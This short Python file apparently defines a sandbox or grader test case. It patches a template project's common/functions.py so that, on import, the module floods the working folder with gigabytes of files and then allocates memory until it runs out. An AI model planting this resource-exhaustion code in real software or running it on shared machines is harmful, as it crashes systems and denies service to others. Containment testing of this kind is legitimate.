"""Writes to its working folder as fast as it can, in many files of the largest size allowed,
then holds 128 MB arrays until memory runs out (class 10)."""
BASE = "template"
SCORE = (0, 0)
PATCHES = [("common/functions.py", "import numpy as np\n", """import os

import numpy as np

try:
    _block = b"x" * (1 << 20)
    for _i in range(100000):
        with open(f"flood-{_i}.bin", "wb") as _out:
            for _ in range(8):
                _out.write(_block)
except Exception:
    pass
_hold = []
try:
    for _ in range(10000):
        _hold.append(np.ones(1 << 24))
except MemoryError:
    _hold = []
""")]
